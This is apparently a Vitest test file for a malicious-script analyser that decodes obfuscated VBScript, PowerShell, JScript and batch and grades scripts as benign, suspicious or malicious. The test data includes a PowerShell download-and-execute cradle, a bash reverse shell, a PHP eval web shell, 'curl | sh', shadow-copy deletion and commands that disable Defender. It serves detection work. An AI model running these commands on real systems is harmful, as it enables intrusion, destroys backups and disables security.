import { gzipSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { idsOf, inspect } from "../../test/check.ts";
import type { PartReport } from "../result.ts";
import { decodeEncodedScripts } from "./encoded.ts";
import { expandPowershellLetters, expandVariables } from "./environment.ts";
import { foldConstants } from "./fold.ts";

const wide = (text: string) => Buffer.from(text, "utf16le").toString("base64");
const download = "IEX (New-Object Net.WebClient).DownloadString('http://files.example/a.ps1')";

function xored(text: string, key: number): string {
  return Buffer.from(Buffer.from(text).map((byte) => byte ^ key)).toString("base64");
}

function sourcesOf(part: PartReport): string[] {
  return [...(part.source === undefined ? [] : [part.source]), ...part.parts.flatMap(sourcesOf)];
}

describe("constant folding", () => {
  const check = () => {};
  it.each([
    ["vbscript", '"cm" & "d" & ".exe"', '"cmd.exe"'],
    ["vbscript", "Chr(99) & Chr(&H6D) & ChrW(100)", '"cmd"'],
    ["vbscript", 'StrReverse("exe.dmc")', '"cmd.exe"'],
    ["vbscript", 'Replace("cXmXd", "X", "")', '"cmd"'],
    ["vbscript", '"a" & _\n  "b"', '"ab"'],
    ["vbscript", '"say ""hi""" & "!"', '"say ""hi""!"'],
    ["powershell", "I`E`X 'a'", "IEX 'a'"],
    ["powershell", "[char]73+[char]0x45", '"IE"'],
    ["powershell", "('{1}{0}' -f 'x','ie')", "('{1}{0}' -f 'x','ie')"],
    ["powershell", "(\"{1}{0}\" -f 'x','ie')", '"iex"'],
    ["powershell", "'cZZmd'.replace('ZZ','')", '"cmd"'],
    ["powershell", "'cZZmd' -replace 'ZZ',''", '"cmd"'],
    ["powershell", "'exe.dmc'[-1..-7] -join ''", '"cmd.exe"'],
    ["jscript", "String.fromCharCode(99,109,0x64)", '"cmd"'],
    ["jscript", '"\\x63\\x6d\\u0064"', '"cmd"'],
    ["jscript", "unescape('%63%6d%u0064')", '"cmd"'],
    ["jscript", "'dmc'.split('').reverse().join('')", '"cmd"'],
    ["batch", "c^m^d /c", "cmd /c"],
    ["vbscript", "plain text", "plain text"],
    ["vbscript", "Chr(999999)", "Chr(999999)"],
  ])("%s: %s", (language, text, expected) => expect(foldConstants(text, language, check)).toBe(expected));

  it("letters out of environment variables", () => {
    expect(expandVariables("%COMSPEC:~-7,3%")).toBe("cmd");
    expect(expandVariables("set a=pow\nset b=er\n%a%%b%shell")).toContain("\npowershell");
    expect(expandVariables("%unknown:~1,2%")).toBe("%unknown:~1,2%");
    expect(expandPowershellLetters("&($env:comspec[4,24,25]-join'')")).toBe("&Iex");
  });

  it("Microsoft's encoded scripts", () => {
    const code =
      "#@~^RQAAAA==-mD~sX|:/TP{~J:+dYbxL~@!F@*@!+@*@!&@*eEI@#@&@#@&.jm.raY 214Wv:zms/obI0xEAAA==^#~@";
    expect(decodeEncodedScripts(code)[0]!.plain).toContain('var my_msg = "Testing <1><2><3>!";');
    expect(decodeEncodedScripts("#@~^")).toEqual([{ at: 0, plain: "" }]);
  });
});

describe("layers", () => {
  it.each(["-e", "-ec", "-enc", "-EncodedCommand", "/enc", "–encod"])("powershell %s", async (parameter) => {
    const report = await inspect(`powershell.exe -nop ${parameter} ${wide(download)}`, "a.bat");
    expect(idsOf(report)).toEqual(
      expect.arrayContaining(["encoded-command", "script-download", "script-download-run"]),
    );
    expect(report.parts[0]).toMatchObject({ kind: "decoded", source: download, type: { id: "powershell" } });
    expect(report.observables.map(({ value }) => value)).toContain("http://files.example/a.ps1");
  });

  it.each([
    ["base64", Buffer.from(download).toString("base64")],
    ["base64 of gzip", gzipSync(download).toString("base64")],
    ["base64 of XOR", `-bxor 0x23 '${xored(download, 0x23)}'`],
    ["hexadecimal", Buffer.from(download).toString("hex")],
    ["numbers", [...Buffer.from(download)].join(",")],
    ["hexadecimal numbers", [...Buffer.from(download)].map((byte) => `0x${byte.toString(16)}`).join(", ")],
    ["two layers", Buffer.from(`$x = '${Buffer.from(download).toString("base64")}'`).toString("base64")],
  ])("%s", async (_name, code) => {
    const report = await inspect(`$a = "${code}"\nWrite-Host $a\n`, "a.ps1");
    expect(sourcesOf(report)).toContain(download);
    expect(idsOf(report)).toContain("script-download-run");
  });

  it("a folded text shows what the script as written hides", async () => {
    const report = await inspect(
      'Set s = CreateObject("WScr" & "ipt.Shell")\ns.Run Chr(99) & Chr(109) & "d /c whoami"\n',
      "a.vbs",
    );
    expect(idsOf(report)).toContain("script-execution");
    expect(sourcesOf(report).join()).toContain('CreateObject("WScript.Shell")');
  });

  it("a bomb of layers ends", async () => {
    let text = download;
    for (let i = 0; i < 30; i++) text = Buffer.from(`x = "${text}"`).toString("base64");
    const report = await inspect(`"${text}"`, "a.vbs");
    expect(report.notes.map(({ code }) => code)).toContain("depth-limit");
    expect(report.verdict).not.toBe("no sign found");
  });
});

describe("verdicts on scripts", () => {
  it.each([
    ["greeting.vbs", 'Dim name\nname = InputBox("Who?")\nMsgBox "Hello " & name\n'],
    ["list.ps1", "param([string]$Path)\nGet-ChildItem $Path | Sort-Object Length | Format-Table\n"],
    ["build.sh", "#!/bin/sh\nset -e\nmake all\ncp out/app /usr/local/bin/\n"],
    ["tool.py", "import sys\n\ndef main():\n    print(sys.argv)\n\nif __name__ == '__main__':\n    main()\n"],
    ["menu.js", "function toggle(id) { var e = document.getElementById(id); e.hidden = !e.hidden; }\n"],
    ["run.bat", "@echo off\ncd %~dp0\nnode server.js\npause\n"],
    [
      "index.php",
      "<?php\n$title = 'Home';\ninclude 'header.php';\necho htmlspecialchars($_GET['q'] ?? '');\n",
    ],
  ])("%s has no sign", async (name, text) => {
    expect(await inspect(text, name)).toMatchObject({ verdict: "no sign found" });
  });

  it.each([
    ["shell.php", "<?php @eval($_POST['c']); ?>", "web-shell"],
    ["back.sh", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n", "script-reverse-shell"],
    ["get.sh", "#!/bin/sh\ncurl -s http://files.example/x | sh\n", "script-download-run"],
    ["wipe.bat", "@echo off\nvssadmin delete shadows /all /quiet\n", "script-destruction"],
    ["off.ps1", "Set-MpPreference -DisableRealtimeMonitoring $true\n", "script-tamper"],
    ["m.bat", "@echo off\nmshta http://files.example/a.hta\n", "script-lolbin"],
  ])("%s is suspicious", async (name, text, sign) => {
    const report = await inspect(text, name);
    expect(idsOf(report)).toContain(sign);
    expect(report.verdict).toBe("suspicious");
  });

  it("several acts together are malicious", async () => {
    const inner = `${download}; schtasks /create /tn u /tr a; Set-MpPreference -DisableRealtimeMonitoring 1`;
    const report = await inspect(`@echo off\npowershell -w hidden -enc ${wide(inner)}\n`, "a.bat");
    expect(report.verdict).toBe("malicious");
    expect(report.techniques.map(({ id }) => id)).toEqual(expect.arrayContaining(["T1059.001", "T1685"]));
  });

  it("EICAR's test file is told for what it is", async () => {
    const text = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR", "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].join("-");
    const report = await inspect(text, "eicar.com");
    expect(report).toMatchObject({
      verdict: "suspicious",
      hashes: { md5: "44d88612fea8a8f36de82e1278abb02f", sha1: "3395856ce81f2b7382dee72602f798b642f14140" },
    });
  });
});
